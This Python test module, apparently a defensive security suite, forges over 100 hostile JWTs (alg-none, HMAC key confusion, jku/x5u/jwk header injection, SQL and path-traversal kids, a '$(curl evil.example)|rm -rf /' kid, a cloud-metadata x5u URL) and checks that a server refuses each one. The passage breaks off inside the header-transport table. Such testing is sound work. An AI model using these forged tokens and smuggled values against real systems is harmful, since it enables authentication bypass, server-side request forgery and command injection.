"""Hostile tokens through every entry point that takes one, against a real server stack.

One table (``HOSTILE``, more than 100 tokens in the categories below) is sent through each
entry point: the REST bearer header (``GET /devices``), ticket minting (``POST
/events/tickets``: no ticket for a bad token), the SSE bearer header (``GET /events``), the
WebSocket's auth message (``auth_invalid``, close 4002) and a refresh on an authenticated
socket (a failed result; the socket, its user and its pings carry on). Every case names the
RFC 6750 ``error_description`` it must get, which proves the right check refused it.

Headers that carry a key (``jku``, ``x5u``, ``jwk``, ``x5c``) point at an attacker server the
test runs, which must never be contacted; the JWKS server counts its requests, and only the
cases with an unknown kid may cause the one bounded re-fetch. The header variants
(``TRANSPORT``) go through the HTTP entry points.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import hmac
import json
import time
from collections.abc import AsyncIterator, Callable, Mapping
from typing import Any

import aiohttp
import jwt
import pytest
import pytest_asyncio
from aiohttp import web
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from multidict import CIMultiDict

from tests.server.api_stack import ADMIN, ServerStack
from tests.server.jwks import HOMES_CLAIM, JwksServer, b64url
from tests.server.realtime_client import WsClient
from thermo_bridge_server.auth.devauth import self_signed_certificate

pytestmark = pytest.mark.asyncio(loop_scope="module")

DROP = object()
"""A claim or header value meaning: leave this member out."""
MAX = 8192  # AuthSettings.max_token_bytes
BAD_CHARACTERS = "token contains characters not allowed in a bearer token"


# --------------------------------------------------------------------------- forging


def _segment(part: Mapping[str, Any] | str | bytes) -> str:
    if isinstance(part, Mapping):
        part = json.dumps({k: v for k, v in part.items() if v is not DROP}, separators=(",", ":"))
    return b64url(part.encode() if isinstance(part, str) else part)


class Forge:
    """Builds tokens against the stack's issuer: real claims, real keys, one thing wrong."""

    def __init__(self, jwks: JwksServer, attacker: str) -> None:
        self.jwks = jwks
        self.attacker = attacker
        self.attacker_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    @property
    def kid(self) -> str:
        return self.jwks.current_kid

    def header(self, **changes: Any) -> dict[str, Any]:
        return {"alg": "RS256", "typ": "JWT", "kid": self.kid, **changes}

    def payload(self, **changes: Any) -> dict[str, Any]:
        """An admin's claims: a token that got through would be obvious."""
        return {**self.jwks.claims("auth0|mallory", ADMIN, homes=["alpha"]), **changes}

    def rs256(self, data: bytes, key: rsa.RSAPrivateKey | None = None, alg: str = "RS256") -> bytes:
        algorithm = jwt.get_algorithm_by_name(alg)
        return bytes(algorithm.sign(data, key or self.jwks.private_key()))

    def compact(
        self,
        header: Mapping[str, Any] | str | bytes,
        payload: Mapping[str, Any] | str | bytes,
        signature: bytes | Callable[[bytes], bytes] | None = None,
    ) -> str:
        """header.payload.signature; ``signature`` None: RS256 with the issuer's current key."""
        signing_input = f"{_segment(header)}.{_segment(payload)}"
        if signature is None:
            signature = self.rs256(signing_input.encode())
        elif callable(signature):
            signature = signature(signing_input.encode())
        return f"{signing_input}.{b64url(signature)}"

    def token(self, header: Mapping[str, Any] | None = None, **claims: Any) -> str:
        """A correctly signed token with these header and claim changes."""
        return self.compact(self.header(**(header or {})), self.payload(**claims))

    def hmac_with(self, secret: bytes, digest: Any = hashlib.sha256) -> Callable[[bytes], bytes]:
        return lambda data: hmac.new(secret, data, digest).digest()

    @property
    def public_pem(self) -> bytes:
        return self.jwks.public_pem()

    @property
    def public_der(self) -> bytes:
        return (
            self.jwks.private_key()
            .public_key()
            .public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
        )

    def attacker_jwk(self, kid: str) -> dict[str, Any]:
        numbers = self.attacker_key.public_key().public_numbers()
        return {"kty": "RSA", "kid": kid, "n": b64url(numbers.n.to_bytes(256, "big")), "e": "AQAB"}

    def attacker_x5c(self) -> list[str]:
        cert = self_signed_certificate(self.attacker_key, "evil.example")
        return [base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()]

    def by_attacker(self, header: Mapping[str, Any]) -> str:
        """Signed with the attacker's key, which the header offers (the server must not take it)."""
        return self.compact(self.header(**header), self.payload(), lambda data: self.rs256(data, self.attacker_key))

    def valid(self) -> str:
        return self.token()

    def header_text(self) -> str:
        """The header's JSON, padded with JSON whitespace so its last base64url character has unused bits."""
        text = json.dumps(self.header())
        while len(text) % 3 == 0:
            text += " "
        return text

    def unpublished(self) -> str:
        """Signed with a key of the issuer's that its JWKS does not publish."""
        kid = self.jwks.add_key(publish=False)
        return self.compact(self.header(kid=kid), self.payload(), lambda d: self.rs256(d, self.jwks.private_key(kid)))

    def noncanonical_payload(self) -> str:
        payload = json.dumps(self.payload())
        while len(payload) % 3 == 0:
            payload += " "
        header, _payload, signature = self.compact(json.dumps(self.header()), payload).split(".")
        return f"{header}.{_noncanonical(_segment(payload))}.{signature}"

    def damage_signature(self, change: Callable[[str], str]) -> str:
        header, payload, signature = self.valid().split(".")
        return f"{header}.{payload}.{change(signature)}"

    def with_segment(self, index: int, segment: str) -> str:
        parts = self.valid().split(".")
        parts[index] = segment
        return ".".join(parts)

    def raw_payload(self, text: str) -> str:
        """A signed token whose payload is exactly this JSON text."""
        return self.compact(json.dumps(self.header()), text)

    def claims_json(self, **replace: str) -> str:
        """The admin payload as JSON text with some members' JSON replaced verbatim."""
        payload = self.payload()
        out = []
        for name, value in payload.items():
            out.append(f"{json.dumps(name)}:{replace.pop(name) if name in replace else json.dumps(value)}")
        out += [f"{json.dumps(name)}:{text}" for name, text in replace.items()]
        return "{" + ",".join(out) + "}"


def _flip(signature: str, index: int) -> str:
    raw = bytearray(base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4)))
    raw[index] ^= 0x01
    return b64url(bytes(raw))


def _truncated(signature: str) -> str:
    """The signature's first 253 bytes, canonically encoded."""
    return b64url(base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))[:-3])


def _noncanonical(segment: str) -> str:
    """The same bytes spelled with a non-zero unused bit in the last character."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(segment) % 4 in (2, 3), "a segment whose last character has unused bits"
    last = alphabet.index(segment[-1])
    return segment[:-1] + alphabet[last | 1]


def _with_claim_json(claim: str, text: str) -> Callable[[Forge], str]:
    return lambda f: f.raw_payload(f.claims_json(**{claim: text}))


def _confusable(text: str) -> str:
    """``text`` with its first 'e' (or 'a') replaced by the Cyrillic look-alike."""
    for latin, cyrillic in (("e", "\u0435"), ("a", "\u0430")):
        if latin in text:
            return text.replace(latin, cyrillic, 1)
    raise AssertionError(text)


# --------------------------------------------------------------------------- the table


@dataclasses.dataclass(frozen=True)
class Hostile:
    id: str
    category: str
    build: Callable[[Forge], str]
    reason: str
    refetch: bool = False
    """An unknown kid: the one bounded JWKS re-fetch may happen."""
    http: tuple[int, str, str | None] | None = None
    """Over HTTP, when the header is refused before the token is read: (status, code, description)."""


def _h(
    id: str,
    category: str,
    build: Callable[[Forge], str],
    reason: str,
    *,
    refetch: bool = False,
    http: tuple[int, str, str | None] | None = None,
) -> Hostile:
    return Hostile(id, category, build, reason, refetch, http)


NOW = int(time.time())
ALG = "alg confusion and none"
KEY = "key injection"
KID = "kid tricks"
SIG = "signature damage"
TIME = "time claims"
ISS = "iss/aud look-alikes"
SUB = "sub types"
CLAIM = "other claim types"
DUP = "duplicate JSON members"
SEG = "malformed segments"
BIG = "oversized tokens"

HOSTILE: list[Hostile] = [
    # --- alg confusion and none -------------------------------------------------------------
    _h("alg_none", ALG, lambda f: f.compact(f.header(alg="none"), f.payload(), b""), "algorithm none not allowed"),
    _h("alg_None", ALG, lambda f: f.compact(f.header(alg="None"), f.payload(), b""), "algorithm None not allowed"),
    _h("alg_NONE", ALG, lambda f: f.compact(f.header(alg="NONE"), f.payload(), b""), "algorithm NONE not allowed"),
    _h("alg_nOnE_signed", ALG, lambda f: f.compact(f.header(alg="nOnE"), f.payload()), "algorithm nOnE not allowed"),
    _h("alg_empty", ALG, lambda f: f.compact(f.header(alg=""), f.payload()), "algorithm in header not allowed"),
    _h("alg_missing", ALG, lambda f: f.compact(f.header(alg=DROP), f.payload()), "algorithm in header not allowed"),
    _h("alg_null", ALG, lambda f: f.compact(f.header(alg=None), f.payload()), "algorithm in header not allowed"),
    _h("alg_number", ALG, lambda f: f.compact(f.header(alg=256), f.payload()), "algorithm in header not allowed"),
    _h("alg_list", ALG, lambda f: f.compact(f.header(alg=["RS256"]), f.payload()), "algorithm in header not allowed"),
    _h("alg_lowercase", ALG, lambda f: f.compact(f.header(alg="rs256"), f.payload()), "algorithm rs256 not allowed"),
    _h(
        "alg_trailing_space",
        ALG,
        lambda f: f.compact(f.header(alg="RS256 "), f.payload()),
        "algorithm in header not allowed",
    ),
    _h(
        "alg_nul_suffix",
        ALG,
        lambda f: f.compact(f.header(alg="RS256\u0000"), f.payload()),
        "algorithm in header not allowed",
    ),
    _h(
        "hs256_public_pem",
        ALG,
        lambda f: f.compact(f.header(alg="HS256"), f.payload(), f.hmac_with(f.public_pem)),
        "algorithm HS256 not allowed",
    ),
    _h(
        "hs384_public_pem",
        ALG,
        lambda f: f.compact(f.header(alg="HS384"), f.payload(), f.hmac_with(f.public_pem, hashlib.sha384)),
        "algorithm HS384 not allowed",
    ),
    _h(
        "hs512_public_pem",
        ALG,
        lambda f: f.compact(f.header(alg="HS512"), f.payload(), f.hmac_with(f.public_pem, hashlib.sha512)),
        "algorithm HS512 not allowed",
    ),
    _h(
        "hs256_public_der",
        ALG,
        lambda f: f.compact(f.header(alg="HS256"), f.payload(), f.hmac_with(f.public_der)),
        "algorithm HS256 not allowed",
    ),
    _h(
        "rs256_header_hmac_signature",
        ALG,
        lambda f: f.compact(f.header(), f.payload(), f.hmac_with(f.public_pem)),
        "signature verification failed",
    ),
    _h(
        "es256",
        ALG,
        lambda f: f.compact(
            f.header(alg="ES256"),
            f.payload(),
            lambda d: jwt.get_algorithm_by_name("ES256").sign(d, ec.generate_private_key(ec.SECP256R1())),
        ),
        "algorithm ES256 not allowed",
    ),
    _h(
        "rs384_issuer_key",
        ALG,
        lambda f: f.compact(f.header(alg="RS384"), f.payload(), lambda d: f.rs256(d, alg="RS384")),
        "algorithm RS384 not allowed",
    ),
    _h(
        "rs512_issuer_key",
        ALG,
        lambda f: f.compact(f.header(alg="RS512"), f.payload(), lambda d: f.rs256(d, alg="RS512")),
        "algorithm RS512 not allowed",
    ),
    _h(
        "ps256_issuer_key",
        ALG,
        lambda f: f.compact(f.header(alg="PS256"), f.payload(), lambda d: f.rs256(d, alg="PS256")),
        "algorithm PS256 not allowed",
    ),
    _h(
        "eddsa",
        ALG,
        lambda f: f.compact(f.header(alg="EdDSA"), f.payload(), b"\x00" * 64),
        "algorithm EdDSA not allowed",
    ),
    _h(
        "rs256_another_key",
        ALG,
        lambda f: f.compact(f.header(), f.payload(), lambda d: f.rs256(d, f.attacker_key)),
        "signature verification failed",
    ),
    _h(
        "rs256_signature_made_with_rs512",
        ALG,
        lambda f: f.compact(f.header(), f.payload(), lambda d: f.rs256(d, alg="RS512")),
        "signature verification failed",
    ),
    # --- key injection: the header offers the attacker's key ---------------------------------
    _h(
        "jku_attacker_kid",
        KEY,
        lambda f: f.by_attacker({"kid": "attacker", "jku": f.attacker + "/jwks.json"}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jku_our_kid",
        KEY,
        lambda f: f.by_attacker({"jku": f.attacker + "/.well-known/jwks.json"}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jku_issuer_signed",
        KEY,
        lambda f: f.token({"jku": f.attacker + "/jwks.json"}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jku_our_own_jwks_url",
        KEY,
        lambda f: f.by_attacker({"kid": "attacker", "jku": f.jwks.jwks_url}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jku_file_url",
        KEY,
        lambda f: f.by_attacker({"jku": "file:///etc/passwd"}),
        "keys in the token header are not accepted",
    ),
    _h(
        "x5u_attacker",
        KEY,
        lambda f: f.by_attacker({"x5u": f.attacker + "/cert.pem"}),
        "keys in the token header are not accepted",
    ),
    _h(
        "x5u_metadata_service",
        KEY,
        lambda f: f.by_attacker({"x5u": "http://169.254.169.254/latest/meta-data/"}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jwk_embedded",
        KEY,
        lambda f: f.by_attacker({"jwk": f.attacker_jwk(f.kid)}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jwk_embedded_own_kid",
        KEY,
        lambda f: f.by_attacker({"kid": "attacker", "jwk": f.attacker_jwk("attacker")}),
        "keys in the token header are not accepted",
    ),
    _h(
        "x5c_embedded",
        KEY,
        lambda f: f.by_attacker({"x5c": f.attacker_x5c()}),
        "keys in the token header are not accepted",
    ),
    _h(
        "jwk_and_jku",
        KEY,
        lambda f: f.by_attacker({"jwk": f.attacker_jwk(f.kid), "jku": f.attacker + "/k"}),
        "keys in the token header are not accepted",
    ),
    _h("jku_null", KEY, lambda f: f.by_attacker({"jku": None}), "keys in the token header are not accepted"),
    _h(
        "crit_b64",
        KEY,
        lambda f: f.token({"crit": ["b64"], "b64": False}),
        "critical header parameters are not supported",
    ),
    # --- kid tricks ------------------------------------------------------------------------------
    _h("kid_unknown", KID, lambda f: f.token({"kid": "kid-0000000000000000"}), "unknown signing key", refetch=True),
    _h("kid_unpublished_key", KID, lambda f: f.unpublished(), "unknown signing key", refetch=True),
    _h(
        "kid_path_traversal",
        KID,
        lambda f: f.token({"kid": "../../../../../../etc/passwd"}),
        "unknown signing key",
        refetch=True,
    ),
    _h("kid_sql", KID, lambda f: f.token({"kid": "' OR '1'='1"}), "unknown signing key", refetch=True),
    _h(
        "kid_sql_union",
        KID,
        lambda f: f.token({"kid": "x' UNION SELECT 'key' --"}),
        "unknown signing key",
        refetch=True,
    ),
    _h(
        "kid_command",
        KID,
        lambda f: f.token({"kid": "$(curl evil.example)|rm -rf /"}),
        "unknown signing key",
        refetch=True,
    ),
    _h(
        "kid_url",
        KID,
        lambda f: f.token({"kid": "https://evil.example/jwks.json"}),
        "unknown signing key",
        refetch=True,
    ),
    _h("kid_very_long", KID, lambda f: f.token({"kid": "k" * 4000}), "unknown signing key", refetch=True),
    _h(
        "kid_confusable",
        KID,
        lambda f: f.token({"kid": f.kid.replace("kid-", "k\u0456d-")}),
        "unknown signing key",
        refetch=True,
    ),
    _h("kid_nul", KID, lambda f: f.token({"kid": f.kid + "\u0000"}), "unknown signing key", refetch=True),
    _h("kid_number", KID, lambda f: f.token({"kid": 1}), "token header has no key id"),
    _h("kid_null", KID, lambda f: f.token({"kid": None}), "token header has no key id"),
    _h("kid_list", KID, lambda f: f.token({"kid": [f.kid]}), "token header has no key id"),
    _h("kid_object", KID, lambda f: f.token({"kid": {"$ne": ""}}), "token header has no key id"),
    _h("kid_bool", KID, lambda f: f.token({"kid": True}), "token header has no key id"),
    _h("kid_empty", KID, lambda f: f.token({"kid": ""}), "token header has no key id"),
    _h("kid_missing", KID, lambda f: f.token({"kid": DROP}), "token header has no key id"),
    # --- signature damage ------------------------------------------------------------------------
    _h("sig_bit_flipped", SIG, lambda f: f.damage_signature(lambda s: _flip(s, 100)), "signature verification failed"),
    _h(
        "sig_first_bit_flipped",
        SIG,
        lambda f: f.damage_signature(lambda s: _flip(s, 0)),
        "signature verification failed",
    ),
    _h("sig_truncated", SIG, lambda f: f.damage_signature(_truncated), "signature verification failed"),
    _h("sig_one_char", SIG, lambda f: f.damage_signature(lambda s: s[:1]), "token signature is not base64url"),
    _h("sig_empty", SIG, lambda f: f.damage_signature(lambda s: ""), "signature missing"),
    _h("sig_doubled", SIG, lambda f: f.damage_signature(lambda s: s + "AA" + s), "signature verification failed"),
    _h(
        "sig_zeros", SIG, lambda f: f.damage_signature(lambda s: b64url(b"\x00" * 256)), "signature verification failed"
    ),
    _h(
        "sig_of_another_token",
        SIG,
        lambda f: f.damage_signature(lambda s: f.jwks.make_token("auth0|other").split(".")[2]),
        "signature verification failed",
    ),
    _h("sig_padded", SIG, lambda f: f.damage_signature(lambda s: s + "=="), "token signature is not base64url"),
    _h(
        "sig_standard_base64",
        SIG,
        lambda f: f.damage_signature(lambda s: s.replace("-", "+").replace("_", "/") + "+/"),
        "token signature is not base64url",
    ),
    _h("sig_noncanonical", SIG, lambda f: f.damage_signature(_noncanonical), "token signature is not base64url"),
    _h(
        "payload_tampered",
        SIG,
        lambda f: f.with_segment(1, _segment(f.payload(sub="auth0|root"))),
        "signature verification failed",
    ),
    _h(
        "header_tampered",
        SIG,
        lambda f: f.with_segment(0, _segment(f.header(x5t="x"))),
        "signature verification failed",
    ),
    _h("payload_noncanonical", SIG, lambda f: f.noncanonical_payload(), "token payload is not base64url"),
    # --- time claims of every wrong type ----------------------------------------------------------
    *[
        _h(
            f"{claim}_{name}",
            TIME,
            _with_claim_json(claim, text),
            f"claim {claim} must be a NumericDate",
        )
        for claim in ("exp", "iat", "nbf")
        for name, text in (
            ("numeric_string", json.dumps(str(NOW + 3600))),
            ("true", "true"),
            ("false", "false"),
            ("null", "null"),
            ("array", f"[{NOW + 3600}]"),
            ("object", '{"$date": 1}'),
        )
    ],
    _h("exp_huge_float", TIME, lambda f: f.raw_payload(f.claims_json(exp="1e300")), "claim exp must be a NumericDate"),
    _h(
        "exp_overflowing_float",
        TIME,
        lambda f: f.raw_payload(f.claims_json(exp="1e400")),
        "claim exp must be a NumericDate",
    ),
    _h(
        "exp_huge_int", TIME, lambda f: f.raw_payload(f.claims_json(exp=str(10**30))), "claim exp must be a NumericDate"
    ),
    _h("exp_negative", TIME, lambda f: f.raw_payload(f.claims_json(exp="-1")), "claim exp must be a NumericDate"),
    _h("iat_negative", TIME, lambda f: f.raw_payload(f.claims_json(iat="-86400")), "claim iat must be a NumericDate"),
    _h("exp_nan_string", TIME, lambda f: f.raw_payload(f.claims_json(exp='"NaN"')), "claim exp must be a NumericDate"),
    _h(
        "exp_infinity_string",
        TIME,
        lambda f: f.raw_payload(f.claims_json(exp='"Infinity"')),
        "claim exp must be a NumericDate",
    ),
    _h(
        "exp_hex_string",
        TIME,
        lambda f: f.raw_payload(f.claims_json(exp='"0x7fffffff"')),
        "claim exp must be a NumericDate",
    ),
    _h(
        "exp_float_string",
        TIME,
        lambda f: f.raw_payload(f.claims_json(exp=f'"{NOW + 3600}.5"')),
        "claim exp must be a NumericDate",
    ),
    _h("exp_nan_literal", TIME, lambda f: f.raw_payload(f.claims_json(exp="NaN")), "unreadable token payload"),
    _h(
        "exp_infinity_literal", TIME, lambda f: f.raw_payload(f.claims_json(exp="Infinity")), "unreadable token payload"
    ),
    _h("exp_expired", TIME, lambda f: f.token(exp=NOW - 3600), "token expired"),
    _h("exp_missing", TIME, lambda f: f.token(exp=DROP), "claim exp missing"),
    _h("iat_missing", TIME, lambda f: f.token(iat=DROP), "claim iat missing"),
    _h("iat_future", TIME, lambda f: f.token(iat=NOW + 3600), "token not yet valid"),
    _h("nbf_future", TIME, lambda f: f.token(nbf=NOW + 3600), "token not yet valid"),
    # --- iss and aud look-alikes -----------------------------------------------------------------
    _h("iss_no_trailing_slash", ISS, lambda f: f.token(iss=f.jwks.issuer.rstrip("/")), "wrong issuer"),
    _h("iss_double_slash", ISS, lambda f: f.token(iss=f.jwks.issuer + "/"), "wrong issuer"),
    _h("iss_uppercase_scheme", ISS, lambda f: f.token(iss=f.jwks.issuer.replace("http", "HTTP", 1)), "wrong issuer"),
    _h("iss_https_for_http", ISS, lambda f: f.token(iss=f.jwks.issuer.replace("http:", "https:", 1)), "wrong issuer"),
    _h("iss_userinfo", ISS, lambda f: f.token(iss=f.jwks.issuer.replace("//", "//evil@", 1)), "wrong issuer"),
    _h("iss_fullwidth_digit", ISS, lambda f: f.token(iss=f.jwks.issuer.replace("1", "\uff11", 1)), "wrong issuer"),
    _h("iss_other_tenant", ISS, lambda f: f.token(iss="https://evil.eu.auth0.com/"), "wrong issuer"),
    _h("iss_suffix_path", ISS, lambda f: f.token(iss=f.jwks.issuer + "evil/"), "wrong issuer"),
    _h("iss_leading_space", ISS, lambda f: f.token(iss=" " + f.jwks.issuer), "wrong issuer"),
    _h("iss_list", ISS, lambda f: f.token(iss=[f.jwks.issuer]), "claim iss must be a string"),
    _h("iss_null", ISS, lambda f: f.token(iss=None), "claim iss must be a string"),
    _h("iss_missing", ISS, lambda f: f.token(iss=DROP), "claim iss missing"),
    _h("aud_other", ISS, lambda f: f.token(aud="https://other-api.example"), "wrong audience"),
    _h(
        "aud_list_without_ours",
        ISS,
        lambda f: f.token(aud=["https://other.example", f.jwks.issuer + "userinfo"]),
        "wrong audience",
    ),
    _h("aud_trailing_slash", ISS, lambda f: f.token(aud=f.jwks.audience + "/"), "wrong audience"),
    _h("aud_uppercase", ISS, lambda f: f.token(aud=f.jwks.audience.upper()), "wrong audience"),
    _h(
        "aud_http_for_https",
        ISS,
        lambda f: f.token(aud=f.jwks.audience.replace("https:", "http:", 1)),
        "wrong audience",
    ),
    _h("aud_userinfo", ISS, lambda f: f.token(aud=f.jwks.audience.replace("//", "//evil@", 1)), "wrong audience"),
    _h("aud_confusable", ISS, lambda f: f.token(aud=_confusable(f.jwks.audience)), "wrong audience"),
    _h("aud_empty_list", ISS, lambda f: f.token(aud=[]), "wrong audience"),
    _h("aud_number", ISS, lambda f: f.token(aud=1), "claim aud must be a string or a list of strings"),
    _h(
        "aud_list_with_number",
        ISS,
        lambda f: f.token(aud=[f.jwks.audience, 1]),
        "claim aud must be a string or a list of strings",
    ),
    _h(
        "aud_object",
        ISS,
        lambda f: f.token(aud={"aud": f.jwks.audience}),
        "claim aud must be a string or a list of strings",
    ),
    _h("aud_null", ISS, lambda f: f.token(aud=None), "claim aud must be a string or a list of strings"),
    _h("aud_missing", ISS, lambda f: f.token(aud=DROP), "claim aud missing"),
    # --- sub types -------------------------------------------------------------------------------
    _h("sub_missing", SUB, lambda f: f.token(sub=DROP), "claim sub missing"),
    _h("sub_empty", SUB, lambda f: f.token(sub=""), "claim sub missing"),
    _h("sub_whitespace", SUB, lambda f: f.token(sub="   "), "claim sub missing"),
    _h("sub_tab", SUB, lambda f: f.token(sub="\t"), "claim sub missing"),
    _h("sub_number", SUB, lambda f: f.token(sub=123), "claim sub must be a string"),
    _h("sub_list", SUB, lambda f: f.token(sub=["auth0|alice"]), "claim sub must be a string"),
    _h("sub_object", SUB, lambda f: f.token(sub={"id": "auth0|alice"}), "claim sub must be a string"),
    _h("sub_null", SUB, lambda f: f.token(sub=None), "claim sub must be a string"),
    _h("sub_bool", SUB, lambda f: f.token(sub=True), "claim sub must be a string"),
    _h(
        "sub_newline",
        SUB,
        lambda f: f.token(sub="auth0|alice\nadmin"),
        "claim sub must be at most 256 printable characters",
    ),
    _h(
        "sub_too_long",
        SUB,
        lambda f: f.token(sub="auth0|" + "a" * 300),
        "claim sub must be at most 256 printable characters",
    ),
    _h("jti_number", CLAIM, lambda f: f.token(jti=1), "claim jti must be a string"),
    _h(
        "permissions_string",
        CLAIM,
        lambda f: f.token(permissions="admin"),
        "claim permissions must be a list of strings",
    ),
    _h(
        "permissions_numbers",
        CLAIM,
        lambda f: f.token(permissions=[1, 2]),
        "claim permissions must be a list of strings",
    ),
    _h("scope_list", CLAIM, lambda f: f.token(scope=["admin"]), "claim scope must be a space-separated string"),
    _h(
        "homes_empty_name",
        CLAIM,
        lambda f: f.compact(f.header(), f.payload(**{HOMES_CLAIM: [""]})),
        "homes claim must be a list of strings",
    ),
    _h(
        "homes_string",
        CLAIM,
        lambda f: f.compact(f.header(), f.payload(**{HOMES_CLAIM: "alpha"})),
        "homes claim must be a list of strings",
    ),
    # --- duplicate JSON members ------------------------------------------------------------------
    _h(
        "dup_sub",
        DUP,
        lambda f: f.raw_payload(f.claims_json()[:-1] + ',"sub":"auth0|root"}'),
        "token payload repeats a member",
    ),
    _h(
        "dup_permissions",
        DUP,
        lambda f: f.raw_payload(f.claims_json()[:-1] + ',"permissions":["admin"]}'),
        "token payload repeats a member",
    ),
    _h(
        "dup_exp",
        DUP,
        lambda f: f.raw_payload(f.claims_json()[:-1] + f',"exp":{NOW + 10**8}}}'),
        "token payload repeats a member",
    ),
    _h(
        "dup_aud",
        DUP,
        lambda f: f.raw_payload(f.claims_json()[:-1] + ',"aud":"https://other.example"}'),
        "token payload repeats a member",
    ),
    _h(
        "dup_nested",
        DUP,
        lambda f: f.raw_payload(f.claims_json()[:-1] + ',"x":{"a":1,"a":2}}'),
        "token payload repeats a member",
    ),
    _h(
        "dup_header_alg",
        DUP,
        lambda f: f.compact(json.dumps(f.header())[:-1] + ',"alg":"none"}', f.payload()),
        "token header repeats a member",
    ),
    _h(
        "dup_header_kid",
        DUP,
        lambda f: f.compact(json.dumps(f.header())[:-1] + ',"kid":"other"}', f.payload()),
        "token header repeats a member",
    ),
    # --- malformed segments (only b64token characters: the header itself is well-formed) ------------
    _h(
        "seg_header_plus",
        SEG,
        lambda f: f.with_segment(0, "eyJ+" + f.valid().split(".")[0][4:]),
        "token header is not base64url",
    ),
    _h(
        "seg_payload_slash",
        SEG,
        lambda f: f.with_segment(1, f.valid().split(".")[1][:-1] + "/"),
        "token payload is not base64url",
    ),
    # "=" inside the token is outside RFC 6750's b64token: the Authorization header itself is malformed.
    _h(
        "seg_header_padded",
        SEG,
        lambda f: f.with_segment(0, _segment(f.header_text()) + "="),
        "token header is not base64url",
        http=(400, "invalid_request", BAD_CHARACTERS),
    ),
    _h(
        "seg_payload_padded",
        SEG,
        lambda f: f.with_segment(1, f.valid().split(".")[1] + "="),
        "token payload is not base64url",
        http=(400, "invalid_request", BAD_CHARACTERS),
    ),
    _h("seg_header_bad_length", SEG, lambda f: f.with_segment(0, "eyJhb"), "token header is not base64url"),
    _h(
        "seg_header_noncanonical",
        SEG,
        lambda f: f.with_segment(0, _noncanonical(_segment(f.header_text()))),
        "token header is not base64url",
    ),
    _h("seg_header_tilde", SEG, lambda f: f.with_segment(0, "~~~~"), "token header is not base64url"),
    _h("seg_header_not_json", SEG, lambda f: f.with_segment(0, _segment("not json")), "unreadable token header"),
    _h("seg_header_array", SEG, lambda f: f.with_segment(0, _segment("[]")), "unreadable token header"),
    _h("seg_header_number", SEG, lambda f: f.with_segment(0, _segment("1")), "unreadable token header"),
    _h("seg_header_string", SEG, lambda f: f.with_segment(0, _segment('"RS256"')), "unreadable token header"),
    _h(
        "seg_header_bom",
        SEG,
        lambda f: f.with_segment(0, _segment("\ufeff" + json.dumps(f.header()))),
        "unreadable token header",
    ),
    _h(
        "seg_header_latin1",
        SEG,
        lambda f: f.with_segment(0, _segment(b'{"alg":"RS256","x":"\xe9"}')),
        "unreadable token header",
    ),
    _h("seg_payload_not_json", SEG, lambda f: f.raw_payload("sub=auth0|root"), "unreadable token payload"),
    _h("seg_payload_array", SEG, lambda f: f.raw_payload("[1,2]"), "unreadable token payload"),
    _h("seg_payload_number", SEG, lambda f: f.raw_payload("12"), "unreadable token payload"),
    _h("seg_payload_null", SEG, lambda f: f.raw_payload("null"), "unreadable token payload"),
    _h("seg_payload_trailing_data", SEG, lambda f: f.raw_payload(f.claims_json() + "x"), "unreadable token payload"),
    _h("seg_payload_deep", SEG, lambda f: f.raw_payload("[" * 2000 + "]" * 2000), "unreadable token payload"),
    _h(
        "seg_payload_huge_number",
        SEG,
        lambda f: f.raw_payload(f.claims_json(exp="9" * 5000)),
        "unreadable token payload",
    ),
    _h("seg_empty_header", SEG, lambda f: f.with_segment(0, ""), "not a signed JWT"),
    _h("seg_empty_payload", SEG, lambda f: f.with_segment(1, ""), "not a signed JWT"),
    _h("seg_two", SEG, lambda f: f.valid().rsplit(".", 1)[0], "not a signed JWT"),
    _h("seg_four", SEG, lambda f: f.valid() + ".", "not a signed JWT"),
    _h("seg_five_jwe", SEG, lambda f: f.valid() + ".AAAA.BBBB", "not a signed JWT"),
    _h("seg_one", SEG, lambda f: f.valid().replace(".", ""), "not a signed JWT"),
    _h("seg_only_dots", SEG, lambda f: "..", "not a signed JWT"),
    _h("seg_random", SEG, lambda f: "abc.def.ghi", "unreadable token header"),
    # --- oversized -------------------------------------------------------------------------------
    _h("big_one_over", BIG, lambda f: f.token(pad="x" * MAX)[: MAX + 1], f"token larger than {MAX} bytes"),
    _h("big_signed_9k", BIG, lambda f: f.token(pad="x" * 9000), f"token larger than {MAX} bytes"),
    _h("big_15k", BIG, lambda f: f.token(pad="x" * 11_000), f"token larger than {MAX} bytes"),
    _h(
        "big_20k",
        BIG,
        lambda f: f.token(pad="x" * 15_000),
        f"token larger than {MAX} bytes",
        # Past the HTTP parser's 16 KiB header limit: aiohttp itself answers (a plain-text 400).
        http=(400, "", None),
    ),
]


@dataclasses.dataclass(frozen=True)
class Transport:
    """An Authorization header (or none) built around a valid token, for the HTTP entry points."""

    id: str
    headers: Callable[[str], list[tuple[str, str]]]
    status: int  # 200 (201 for a ticket): accepted
    code: str | None = None
    description: str | None = None
    query: Callable[[str], dict[str, str]] | None = None
    sse: tuple[int, str] | None = None
    """On ``GET /events``, when its query check answers first: (status, code)."""


def _auth(value: str) -> Callable[[str], list[tuple[str, str]]]:
    return lambda token: [("Authorization", value.format(token=token))]


SEPARATE = "the scheme and the token must be separated by spaces"
TRANSPORT: list[Transport] = [
    Transport("scheme_lowercase", _auth("bearer {token}"), 200),
    Transport("scheme_uppercase", _auth("BEARER {token}"), 200),
    Transport("scheme_mixed_case", _auth("BeArEr {token}"), 200),
    Transport("double_space", _auth("Bearer  {token}"), 200),  # RFC 6750: "Bearer" 1*SP b64token
    Transport("tab", _auth("Bearer\t{token}"), 400, "invalid_request", SEPARATE),
    Transport("equals_sign", _auth("Bearer={token}"), 400, "invalid_request", SEPARATE),
    Transport("no_separator", _auth("Bearer{token}"), 401, "unauthorized"),  # one word: another scheme
